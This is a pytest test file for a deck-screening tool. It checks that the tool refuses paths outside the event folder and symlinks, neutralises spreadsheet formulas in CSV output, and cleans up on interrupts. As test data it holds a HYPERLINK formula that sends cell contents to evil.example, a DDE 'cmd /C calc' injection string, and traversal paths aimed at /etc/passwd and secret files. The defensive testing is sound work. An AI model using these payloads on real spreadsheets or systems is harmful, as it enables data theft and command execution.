"""Screening under hostile input: files outside the event, spreadsheet formulas, outputs that are inputs."""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from deckcheck.csvsafe import safe_cell, writer
from deckcheck.screening import read_registrations, screen

FIX = Path(__file__).parent / "fixtures" / "screening"
HOSTILE = FIX / "hostile"
SECRET = "4 Top Secret Credential aws_secret_access_key\n"


def _cli(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "deckcheck", *args], capture_output=True, text=True,
                          cwd=cwd, env={**os.environ, "COLUMNS": "200"}, timeout=120)


def _event_with_secret(tmp_path: Path) -> Path:
    """tmp/secret.txt (what must never be read) beside tmp/event/ (the organizer's folder)."""
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    ev = tmp_path / "event"
    ev.mkdir()
    shutil.copy(HOSTILE / "escape_roster.csv", ev / "roster.csv")
    shutil.copy(FIX / "senzir.txt", ev / "senzir.txt")
    return ev


def _reports(tmp_path: Path, *args) -> tuple[subprocess.CompletedProcess, str]:
    outs = [tmp_path / f"report.{ext}" for ext in ("csv", "json", "html")]
    r = _cli("screen", *args, "-q", *[a for o in outs for a in ("--out", str(o))])
    return r, r.stdout + "".join(o.read_text(encoding="utf-8") for o in outs if o.exists())


def test_roster_paths_outside_the_event_folder_are_refused_and_never_read(tmp_path):
    ev = _event_with_secret(tmp_path)
    r, everything = _reports(tmp_path, str(ev / "roster.csv"))
    assert r.returncode == 1, r.stderr
    assert "Top Secret" not in everything and "root:" not in everything
    data = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    rows = {p["player_id"]: p for p in data["players"]}
    for pid in ("P1", "P2"):   # an absolute path and a ../ path
        assert rows[pid]["status"] == "unreadable"
        assert rows[pid]["reason"].endswith("deck path outside the event folder")
    assert rows["P3"]["status"] == "legal"
    # the organizer can allow one more folder explicitly: then the file is read
    r, everything = _reports(tmp_path, str(ev / "roster.csv"), "--allow-outside", str(tmp_path))
    assert "Top Secret Credential" in everything
    assert "/etc/passwd: deck path outside the event folder" in everything   # still not /etc


def test_pool_path_outside_the_event_folder_is_refused(tmp_path):
    ev = _event_with_secret(tmp_path)
    (ev / "roster.json").write_text(json.dumps([{"player_id": "P1", "player_name": "Ann", "deck": "senzir.txt",
                                                 "pool": "../secret.txt"}]), encoding="utf-8")
    result = screen(read_registrations(ev / "roster.json"), "constructed", workers=1)
    try:
        (row,) = list(result.rows())
        assert row["status"] == "unreadable" and row["reason"].endswith("pool path outside the event folder")
    finally:
        result.close()


def test_folder_mode_does_not_follow_links_out_of_the_folder(tmp_path):
    ev = _event_with_secret(tmp_path)
    (ev / "roster.csv").unlink()
    os.symlink(tmp_path / "secret.txt", ev / "mallory.txt")
    os.symlink("/etc/passwd", ev / "eve.txt")
    os.symlink(ev / "senzir.txt", ev / "same_deck_by_link.txt")    # a link inside the folder is fine
    r, everything = _reports(tmp_path, str(ev))
    assert "Top Secret" not in everything and "root:" not in everything
    rows = {p["player_id"]: p for p in json.loads((tmp_path / "report.json").read_text())["players"]}
    assert rows["mallory"]["reason"].endswith("deck path outside the event folder")
    assert rows["eve"]["reason"].endswith("deck path outside the event folder")
    assert rows["same_deck_by_link"]["status"] == "legal"


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_screening_csv_neutralises_formulas(tmp_path):
    ev = tmp_path / "event"
    ev.mkdir()
    shutil.copy(HOSTILE / "injection_roster.csv", ev / "roster.csv")
    shutil.copy(FIX / "senzir.txt", ev / "senzir.txt")
    out = tmp_path / "r.csv"
    assert _cli("screen", str(ev / "roster.csv"), "-q", "--out", str(out)).returncode == 0
    text = out.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["player_id"] == "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")"
    assert rows[0]["player_name"] == "'@SUM(1+1)"
    assert rows[1]["player_id"] == "'+P2" and rows[1]["player_name"] == "'-2+3"
    assert rows[2]["player_name"] == "Cy\nDee"       # a bare CR never splits the row
    assert rows[3]["player_name"] == "Plain Name"
    # file names are player ids in folder mode: a leading tab or CR too
    folder = tmp_path / "names"
    folder.mkdir()
    for stem in ("\tTab", "\rCR", "=1+2", "-3"):
        shutil.copy(FIX / "senzir.txt", folder / f"{stem}.txt")
    assert _cli("screen", str(folder), "-q", "--out", str(out)).returncode == 0
    text = out.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    assert {r["player_id"] for r in csv.DictReader(io.StringIO(text))} == {"'\tTab", "'\nCR", "'=1+2", "'-3"}


def test_safe_cell_and_writer():
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "x=1", "", 4, -4)] == \
        ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\nx", "x=1", "", 4, -4]
    buf = io.StringIO()
    writer(buf).writerow(["=cmd|' /C calc'!A0", 3])
    assert buf.getvalue() == "'=cmd|' /C calc'!A0,3\n"


def test_writer_neutralises_a_formula_in_any_cell_of_a_row():
    """The writer passes to safe_cell only the cells that need it; a formula in any cell, after safe
    ones, in a str subclass or after a NUL, is still neutralised exactly as safe_cell does."""
    from enum import Enum

    class Kind(str, Enum):
        BAD = "=2+2"

    rows = [["ok", "fine", 3, "=HYPERLINK(1)"], ["a", None, "+1", 2.5], ["x", "y\rz"], [Kind.BAD, "a"],
            ["a\x00=b", "c"], ["safe", "also safe", 7], ["", "-", "@"]]
    for row in rows:
        got, want = io.StringIO(), io.StringIO()
        writer(got).writerow(row)
        csv.writer(want, lineterminator="\n").writerow([safe_cell(v) for v in row])
        assert got.getvalue() == want.getvalue(), row
    assert _formula_cells("".join(_row(r) for r in rows)) == []


def _row(cells) -> str:
    buf = io.StringIO()
    writer(buf).writerow(cells)
    return buf.getvalue()


def test_collection_export_neutralises_formulas():
    from deckcheck.collection.importers import write_ours
    buf = io.StringIO()
    write_ours([{"set": "=S", "number": "+1", "finish": "-", "qty": 2, "name": "@Evil Card"}], buf)
    assert _formula_cells(buf.getvalue()) == []
    assert buf.getvalue().splitlines()[1] == "'=S,'+1,'-,2,'@Evil Card,NM,en,"


def test_an_output_that_is_an_input_is_refused(tmp_path):
    ev = _event_with_secret(tmp_path)
    roster = ev / "roster.csv"
    before = roster.read_bytes()
    for out in (roster, ev / "report.csv"):
        source = roster if out == roster else ev
        r = _cli("screen", str(source), "-q", "--out", str(out))
        assert r.returncode == 2 and r.stdout == ""
        assert len(r.stderr.strip().splitlines()) == 1 and "--out" in r.stderr, r.stderr
    assert roster.read_bytes() == before and not (ev / "report.csv").exists()


def test_a_malformed_roster_row_is_one_line_not_a_traceback(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_bytes(b"player_id,player_name,deck\nP1,Cy\rDee,a.txt\n")
    r = _cli("screen", str(roster), "-q")
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert r.stderr.strip().splitlines() == [r.stderr.strip()] and f"{roster}:" in r.stderr


def _slow_deck(path: Path, lines: int = 1990) -> None:
    """A list of as many different unknown names as a deck may have: each costs a fuzzy search for
    suggestions (milliseconds each, where a normal list takes about one in all)."""
    import random
    rng = random.Random(11)
    letters = "bcdfghjklmnpqrstvwxz"
    path.write_text("Hero: Sen'zir Beastwalker\n" + "".join(
        f"1 {''.join(rng.choice(letters) for _ in range(24))}\n" for _ in range(lines)), encoding="utf-8")


def test_a_pathological_registration_is_too_slow_for_that_player_only(tmp_path):
    ev = tmp_path / "event"
    ev.mkdir()
    shutil.copy(FIX / "senzir.txt", ev / "alice.txt")
    shutil.copy(FIX / "litori.txt", ev / "bob.txt")
    _slow_deck(ev / "mallory.txt")
    shutil.copy(FIX / "gorebelly.txt", ev / "zoe.txt")
    result = screen(read_registrations(ev), "constructed", workers=1, budget=0.25)
    try:
        rows = {r["player_id"]: r for r in result.rows()}
    finally:
        result.close()
    assert rows["mallory"]["status"] == "unreadable"
    assert "too slow to read (over 0.25 s)" in rows["mallory"]["reason"]
    assert [rows[p]["status"] for p in ("alice", "bob", "zoe")] == ["legal"] * 3
    r = _cli("screen", str(ev), "--json", "-j", "2", "--budget", "0.25")      # the same in worker processes
    rows = {p["player_id"]: p for p in json.loads(r.stdout)["players"]}
    assert "too slow to read" in rows["mallory"]["reason"] and rows["zoe"]["status"] == "legal"
    bad = _cli("screen", str(ev), "--budget", "0")
    assert bad.returncode == 2 and "--budget" in bad.stderr and bad.stdout == ""


def test_workers_are_clamped_to_the_cores_with_a_note(tmp_path):
    from deckcheck.screening.screen import check_workers, cores
    assert check_workers(1_000_000) == cores()
    ev = tmp_path / "event"
    ev.mkdir()
    shutil.copy(FIX / "senzir.txt", ev / "alice.txt")
    r = _cli("screen", str(ev), "-q", "-j", "1000000")
    assert r.returncode == 0
    assert r.stderr == f"deckcheck: note: -j 1000000 is more than the {cores()} core(s) here; using {cores()}\n"


def test_unreadable_or_different_lists_are_never_identical(tmp_path):
    ev = tmp_path / "event"
    ev.mkdir()
    (ev / "a.txt").write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    (ev / "b.txt").write_text("[default]\naws_secret_access_key = abc\n", encoding="utf-8")
    (ev / "c.deck").write_bytes(b"\x89PNG\r\n\x1a\n\0\0one")
    (ev / "d.deck").write_bytes(b"\x89PNG\r\n\x1a\n\0\0two")
    (ev / "e.txt").write_text("4 Frostbolt\n4 Zzyzx Unknown\n", encoding="utf-8")
    (ev / "f.txt").write_text("4 Frostbolt\n4 Qwerty Unknown\n", encoding="utf-8")
    (ev / "g.txt").write_text("4 Frostbolt\n4 Qwerty Unknown\n", encoding="utf-8")   # the same as f: truly identical
    result = screen(read_registrations(ev), "constructed", workers=1)
    try:
        groups = [[pid for pid, _ in g.players] for g in result.groups()]
        assert groups == [["f", "g"]]
        rows = {r["player_id"]: r for r in result.rows()}
        assert not any("identical" in v["message"] for pid in "abcde" for v in rows[pid]["violations"])
    finally:
        result.close()


def _spool_dirs(tmp: Path) -> list[str]:
    return [p.name for p in tmp.iterdir() if p.name.startswith("deckcheck-screen-")]


def _mapped(pid: int, library: str) -> bool:
    try:
        return library in Path(f"/proc/{pid}/maps").read_text()
    except OSError:
        return False


def _spool_rows(tmp: Path) -> int:
    return sum(f.stat().st_size for d in tmp.glob("deckcheck-screen-*") for f in d.glob("*.rows"))


#: the moments an interrupt comes at, each told by what the run has done so far
MOMENTS = {
    # the command line's own imports (typer loads _datetime; the interpreter's start-up does not)
    "import": lambda p, spool, out: _mapped(p.pid, "_datetime"),
    "pool start-up": lambda p, spool, out: bool(_spool_dirs(spool)),    # the spool comes just before the workers
    "mid-run": lambda p, spool, out: _spool_rows(spool) > 0,
    "the end": lambda p, spool, out: any(out.iterdir()),                 # the report is being written
}


@pytest.mark.skipif(not Path("/proc/self/maps").exists(), reason="reads /proc to tell the moments apart")
@pytest.mark.parametrize("sig,code,word", [("SIGINT", 130, "interrupted"), ("SIGTERM", 143, "terminated")])
def test_an_interrupt_stops_cleanly_and_leaves_nothing(tmp_path, sig, code, word):
    """At any moment: one line, the exit code, no worker traceback, no spool folder, no report
    (one already written is removed). A SIGINT sent just as the workers started once went unheard."""
    import signal
    import time
    ev = tmp_path / "event"
    ev.mkdir()
    text = (FIX / "gorebelly.txt").read_text(encoding="utf-8")
    for i in range(3000):
        (ev / f"p{i:04d}.txt").write_text(text, encoding="utf-8")
    spool = tmp_path / "tmp"
    spool.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    for moment, reached in MOMENTS.items():
        p = subprocess.Popen([sys.executable, "-m", "deckcheck", "screen", str(ev), "-q", "-j", "2",
                              "--out", str(out / "r.csv")], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                             text=True, env={**os.environ, "TMPDIR": str(spool)}, start_new_session=True)
        deadline = time.monotonic() + 60
        while not reached(p, spool, out) and p.poll() is None and time.monotonic() < deadline:
            time.sleep(0.001)
        assert p.poll() is None, f"{moment}: ended before the signal: {p.stderr.read()}"
        if sig == "SIGINT":
            os.killpg(p.pid, signal.SIGINT)      # as Ctrl-C does: the parent and its workers
        else:
            p.send_signal(signal.SIGTERM)
        try:
            stdout, stderr = p.communicate(timeout=60)
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, signal.SIGKILL)
            raise AssertionError(f"{sig} at {moment}: still running 60 s later")
        assert p.returncode == code, (moment, stderr)
        assert stderr == f"deckcheck: {word}; no report written\n", moment
        if moment != "the end":      # at the end the summary may be on its way to stdout
            assert stdout == "", moment
        assert _spool_dirs(spool) == [] and list(out.iterdir()) == [], moment


def test_a_dotdot_after_a_link_is_resolved_as_the_system_does(tmp_path):
    ev = _event_with_secret(tmp_path)
    elsewhere = tmp_path / "elsewhere" / "deeper"
    elsewhere.mkdir(parents=True)
    (tmp_path / "elsewhere" / "senzir.txt").write_text(SECRET, encoding="utf-8")
    os.symlink(elsewhere, ev / "link")          # event/link/../senzir.txt is elsewhere/senzir.txt
    (ev / "roster.json").write_text(json.dumps([{"player_id": "P1", "player_name": "Ann",
                                                 "deck": "link/../senzir.txt"}]), encoding="utf-8")
    result = screen(read_registrations(ev / "roster.json"), "constructed", workers=1)
    try:
        (row,) = list(result.rows())
        assert row["reason"].endswith("deck path outside the event folder")
        assert "Top Secret" not in json.dumps(row)
    finally:
        result.close()
